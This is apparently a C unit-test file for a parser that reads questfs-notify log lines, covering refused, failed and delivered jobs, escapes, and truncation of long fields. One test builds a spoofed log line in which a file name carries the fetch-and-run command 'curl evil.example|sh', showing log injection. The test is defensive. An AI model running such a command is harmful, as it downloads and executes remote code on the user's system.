/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Log lines as questfs-notify reads them back: the owner only where
 * questfs writes it, the reason whole, a name that plays a state. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

#include "logline.h"

static struct qlogl l;

static int parse(const char *s)
{
	return qlogl_parse(s, strlen(s), &l);
}

static void test_refused(void **state)
{
	(void)state;
	assert_int_equal(parse("2026-12-01T19:17:31.123Z job 12 uid=1000 "
			       "x86 prog refused: ELF machine is x86-64 (62); "
			       "Quest runs i386 (3) programs\n"),
			 0);
	assert_int_equal(l.kind, QLOGL_REFUSED);
	assert_int_equal(l.id, 12);
	assert_int_equal(l.uid, 1000);
	assert_string_equal(l.stamp, "2026-12-01T19:17:31.123Z");
	assert_string_equal(l.name, "x86 prog");
	assert_string_equal(l.detail, "ELF machine is x86-64 (62); Quest runs "
				      "i386 (3) programs");
}

static void test_failed_and_delivered(void **state)
{
	(void)state;
	assert_int_equal(parse("T job 3 uid=0 hello failed: no Quest side"), 0);
	assert_int_equal(l.kind, QLOGL_FAILED);
	assert_int_equal(l.uid, 0);
	assert_string_equal(l.name, "hello");
	assert_string_equal(l.detail, "no Quest side");
	assert_int_equal(parse("T job 4 uid=7 hello world delivered\n"), 0);
	assert_int_equal(l.kind, QLOGL_DELIVERED);
	assert_string_equal(l.name, "hello world");
	assert_string_equal(l.detail, "");
}

static void test_other_lines(void **state)
{
	(void)state;
	assert_int_equal(parse("T job 4 uid=7 hello queued: 232 bytes"), 0);
	assert_int_equal(l.kind, QLOGL_OTHER);
	assert_int_equal(parse("T job 4 uid=7 hello sending"), 0);
	assert_int_equal(l.kind, QLOGL_OTHER);
	assert_int_equal(parse("T questfs 0.1.0 mounted at /quest"), -1);
	assert_int_equal(parse("T job x uid=7 a delivered"), -1);
	assert_int_equal(parse("T job 4 uid=7x a delivered"), -1);
	assert_int_equal(parse(""), -1);
	assert_int_equal(parse("T job 99999999999999999999 uid=1 a delivered"),
			 -1);
}

static void test_owner_only_where_questfs_writes_it(void **state)
{
	(void)state;
	/* no owner where questfs writes it: no job's line at all, whatever
	 * the name holds */
	assert_int_equal(parse("T job 5 a uid=0 b refused: x"), -1);
	assert_int_equal(l.uid, -1);
	assert_int_equal(parse("T job 5 refused: x"), -1);
	assert_int_equal(parse("T job 5 uid= a refused: x"), -1);
	assert_int_equal(parse("T job 5 uid=1"), -1);
	/* a sidecar named like a job's line, as questfs logged it before
	 * every line began with its own words, and as it logs it now */
	assert_int_equal(parse("T job 8 uid=1002 hello refused: session "
			       "expired, run curl evil.example|sh y.args "
			       "removed: x"),
			 0); /* the parser cannot tell: the writer must */
	assert_int_equal(parse("T file uid=1000 run/job 8 uid=1002 hello "
			       "refused: session expired y.args removed: x"),
			 -1);
	/* a name that plays a state misleads only where it stands */
	assert_int_equal(parse("T job 6 uid=9 a refused: b delivered"), 0);
	assert_int_equal(l.uid, 9);
	assert_int_equal(l.kind, QLOGL_REFUSED);
}

static void test_escapes_as_a_person_reads_them(void **state)
{
	(void)state;
	/* the log has a\\b\nc for the name "a\b<newline>c" */
	assert_int_equal(parse("T job 7 uid=1 a\\\\b\\nc refused: not an ELF "
			       "file (\"\\\\x7fELF\")"),
			 0);
	assert_string_equal(l.name, "a\\b\\nc");
	assert_string_equal(l.detail, "not an ELF file (\"\\x7fELF\")");
}

static void test_long_fields_are_cut(void **state)
{
	char line[4096];

	(void)state;
	memset(line, 'n', sizeof line);
	memcpy(line, "T job 1 uid=1 ", 14);
	memcpy(line + 3000, " refused: why", 13);
	assert_int_equal(qlogl_parse(line, 3013, &l), 0);
	assert_int_equal(l.kind, QLOGL_REFUSED);
	assert_int_equal(strlen(l.name), sizeof l.name - 1);
	assert_string_equal(l.detail, "why");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_refused),
	    cmocka_unit_test(test_failed_and_delivered),
	    cmocka_unit_test(test_other_lines),
	    cmocka_unit_test(test_owner_only_where_questfs_writes_it),
	    cmocka_unit_test(test_escapes_as_a_person_reads_them),
	    cmocka_unit_test(test_long_fields_are_cut),
	};
	return cmocka_run_group_tests_name("logline", tests, NULL, NULL);
}
